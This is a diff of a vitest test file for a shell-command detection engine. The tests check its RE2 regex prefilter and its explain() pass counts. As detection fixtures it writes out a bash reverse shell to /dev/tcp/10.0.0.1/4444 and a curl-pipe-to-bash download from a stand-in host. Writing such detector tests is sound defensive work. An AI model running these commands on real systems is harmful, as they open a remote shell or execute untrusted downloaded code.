@@ -1,6 +1,7 @@
 import { RE2JS, RE2Set } from 're2js';
 import { describe, expect, it, vi } from 'vitest';
-import { loadDefaultRules, parseRules } from '../../src/detect/load-rules.js';
+import { readFileSync } from 'node:fs';
+import { defaultRulesPath, loadDefaultRules, parseRules } from '../../src/detect/load-rules.js';
 import { containsAnyLiteral, requiredLiteral, requiredLiterals } from '../../src/detect/required-literal.js';
 import { shellEvent } from './make-event.js';
 
@@ -49,18 +50,42 @@ describe('requiredLiteral', () => {
 });
 
 describe('command regex prefilter', () => {
-  it('does not run the command automaton over a long script holding none of the literals', () => {
+  it('runs no regex over a long script holding none of the literals', () => {
     const script = 'for f in /var/tmp/*; do echo "$f" >/dev/null 2>&1; done; '.repeat(2000);
     const rules = loadDefaultRules();
-    const match = vi.spyOn(RE2Set.prototype, 'match');
+    const set = vi.spyOn(RE2Set.prototype, 'match');
+    const single = vi.spyOn(RE2JS.prototype, 'test');
     try {
       expect(rules.match(shellEvent(script, {}, 'bash'))).toBeNull();
-      expect(match).not.toHaveBeenCalled();
-      // The same script with a reverse shell in it still hits, through the automaton.
+      expect(set).not.toHaveBeenCalled();
+      expect(single).not.toHaveBeenCalled();
+      // The same script with a reverse shell in it still hits.
       expect(rules.match(shellEvent(`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; ${script}`, {}, 'bash'))?.ruleId).toBe('reverse-shell-dev-tcp');
-      expect(match).toHaveBeenCalled();
     } finally {
-      match.mockRestore();
+      set.mockRestore();
+      single.mockRestore();
+    }
+  });
+
+  it('answers a command holding every literal with the combined automaton after two single passes', () => {
+    const rules = loadDefaultRules();
+    const everyLiteral = defaultCommandPatterns().flatMap((pattern) => requiredLiteral(pattern) ?? []);
+    const command = `bash -c 'curl -s http://x.example/a.sh | bash ; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ; ${everyLiteral.join(' ; ')}'`;
+    const event = shellEvent(command, {}, 'bash');
+    const eager = parseRules(readFileSync(defaultRulesPath(), 'utf8'), 'default-rules.yml');
+    const set = vi.spyOn(RE2Set.prototype, 'match');
+    const single = vi.spyOn(RE2JS.prototype, 'test');
+    try {
+      const explained = rules.explain(event);
+      // explain() computes the facts once per call: one set pass, and at most two patterns alone
+      // (any_arg_regex conditions test arguments on their own, and are not command patterns).
+      expect(set).toHaveBeenCalledTimes(1);
+      expect(single.mock.calls.filter(([input]) => input === command).length).toBeLessThanOrEqual(2);
+      expect(explained.length).toBeGreaterThanOrEqual(2);
+      expect(explained).toEqual(eager.explain(event));
+    } finally {
+      set.mockRestore();
+      single.mockRestore();
     }
   });
 
@@ -72,3 +97,9 @@ describe('command regex prefilter', () => {
     expect(rules.match(shellEvent('cat /dev/null'))).toBeNull();
   });
 });
+
+/** Every `command` pattern of the default pack's blocks. */
+function defaultCommandPatterns(): string[] {
+  const specs = loadDefaultRules().specs;
+  return specs.flatMap((spec) => [spec.match, ...spec.any, ...spec.exceptions].flatMap((block) => block?.command ?? []));
+}
